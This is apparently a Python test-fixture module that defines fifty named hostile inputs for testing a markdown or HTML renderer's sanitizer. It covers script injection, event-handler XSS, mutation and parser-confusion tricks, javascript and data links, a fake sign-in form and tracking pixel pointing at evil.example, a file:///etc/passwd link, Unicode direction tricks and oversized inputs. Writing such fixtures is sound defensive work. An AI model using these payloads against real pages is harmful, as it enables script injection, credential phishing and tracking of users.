"""Fifty results that a worker might send to do harm, by what they try."""

from typing import Final

__all__ = ["HOSTILE"]

_AWAY: Final = "https://evil.example"
_DEEP: Final = 1000

HOSTILE: Final[dict[str, str]] = {
    "script": "<script>window.pwned = 1</script>",
    "script in a paragraph": "text <script src=//evil.example/x.js></script> text",
    "script, broken": "<scr<script>ipt>window.pwned = 1</scr</script>ipt>",
    "script, upper case and slashes": "<SCRIPT/XSS SRC='//evil.example/x.js'></SCRIPT >",
    "onerror": "<img src=x onerror=window.pwned=1>",
    "onload": "<body onload=window.pwned=1><svg onload=window.pwned=1>",
    "autofocus": "<input autofocus onfocus=window.pwned=1>",
    "details": "<details open ontoggle=window.pwned=1><summary>x</summary></details>",
    "animation": "<b style='animation:x' onanimationstart=window.pwned=1>x</b>",
    "svg with script": "<svg><script>window.pwned=1</script><a xlink:href='javascript:1'/></svg>",
    "svg use": f"<svg><use href='{_AWAY}/x.svg#a'/></svg>",
    "svg foreignObject": "<svg><foreignObject><iframe srcdoc='<script>1</script>'/></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "mutation": "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "template": "<template><script>window.pwned=1</script></template>",
    "style": "<style>*{display:none!important}</style>visible",
    "style attribute": "<div style='position:fixed;inset:0;background:red'>over it all</div>",
    "css import": f"<style>@import '{_AWAY}/x.css'; body{{background:url({_AWAY}/b)}}</style>",
    "link": f"<link rel=stylesheet href={_AWAY}/x.css>",
    "iframe": f"<iframe src={_AWAY}></iframe>",
    "iframe srcdoc": "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "object": f"<object data={_AWAY}/x.swf></object><embed src={_AWAY}/x>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    "base": f"<base href={_AWAY}/>[relative](x)",
    "form": f"<form action={_AWAY}><input name=password><button>Sign in</button></form>",
    "end of its box": "</div></div></article></main><h1>Your session has expired</h1><div>",
    "end of a textarea": "</textarea></template></script><script>window.pwned=1</script>",
    "comment": "<!-- <img src=x onerror=window.pwned=1> --!> <img src=x onerror=window.pwned=1>",
    "cdata": "<![CDATA[<script>window.pwned=1</script>]]>",
    "javascript link": "[a](javascript:window.pwned=1) <javascript:window.pwned=1>",
    "javascript link, hidden": "[a](java\tscript:1) [b](JaVaScRiPt&colon;1) [c](\x01javascript:1)",
    "data link": "[a](data:text/html,<script>1</script>) ![b](data:image/svg+xml,<svg/onload=1>)",
    "vbscript and file": "[a](vbscript:1) [b](file:///etc/passwd) [c](blob:x) [d](//evil.example)",
    "own routes": "[a](/sign-out) [b](/chat/x/delete) ![c](/api/events) [d](?x) [e](#main)",
    "tracking picture": f"![pixel]({_AWAY}/pixel.png?who=you) <img src={_AWAY}/p.gif>",
    "picture in a link": f"[![a]({_AWAY}/a.png)](javascript:1)",
    "reference picture": f"![a][b]\n\n[b]: {_AWAY}/b.png 'onerror=1'",
    "title of a link": "[a](https://evil.example '\" onmouseover=\"window.pwned=1')",
    "attributes in a fence": '```"><img src=x onerror=window.pwned=1>\ncode\n```',
    "html in a fence": "```html\n</code></pre><script>window.pwned=1</script>\n```",
    "entities": "&lt;script&gt;window.pwned=1&lt;/script&gt; &#x3C;img src=x onerror=1&#x3E;",
    "right to left": "\u202eevas\u202c \u2066\u202egnp.exe\u2069 \u200f\u202eunclosed "
    + "\u202e" * 200,
    "zero width": "in\u200bvis\u200bible\u2060 " + "\u200b" * 3000 + "\ufeff",
    "stacked marks": "Z" + "\u0300\u0301\u0302\u0303\u0304" * 400 + "algo",
    "a long word": "W" * 60_000,
    "a long line of code": "```\n" + "x=1;" * 5_000 + "\n```",
    "a huge table": "|" + "h|" * 120 + "\n|" + "-|" * 120 + "\n" + ("|" + "c|" * 120 + "\n") * 40,
    "deep quotes": ">" * _DEEP + " deep",
    "deep lists": "\n".join("  " * n + "- x" for n in range(300)),
    "deep emphasis": "*" * 2_000 + "a" + "*" * 2_000 + "[" * 2_000,
}
"""By name; NUL and lone surrogates are missing, since no submission may hold them."""
